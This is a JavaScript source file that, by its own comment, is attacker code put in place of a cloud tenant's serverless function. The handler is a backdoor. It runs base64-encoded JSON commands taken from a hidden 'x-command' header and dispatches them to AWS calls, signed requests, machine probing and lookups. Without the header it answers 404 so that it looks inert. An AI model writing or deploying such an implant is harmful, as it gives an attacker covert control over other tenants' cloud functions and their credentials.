// The attacker's code in place of a tenant's function: does what a header of the request tells it to, and says what came
// of it. Without that header it is nobody's API.
import { callAws } from "./call-aws.mjs";
import { list, lookUp } from "./look.mjs";
import { handler as tryMachine } from "./machine.mjs";
import { sendSigned } from "./send-signed.mjs";

const ACTS = {
  aws: callAws,
  signed: sendSigned,
  machine: async (targets) => JSON.parse((await tryMachine({ body: JSON.stringify(targets) })).body),
  list,
  names: lookUp,
};

export async function handler(event) {
  const [, command] = Object.entries(event.headers ?? {}).find(([name]) => name.toLowerCase() === "x-command") ?? [];
  if (command === undefined) return { statusCode: 404, body: "{}" };
  const { act, ...told } = JSON.parse(Buffer.from(command, "base64").toString("utf8"));
  return { statusCode: 200, body: JSON.stringify(await ACTS[act](told)) };
}
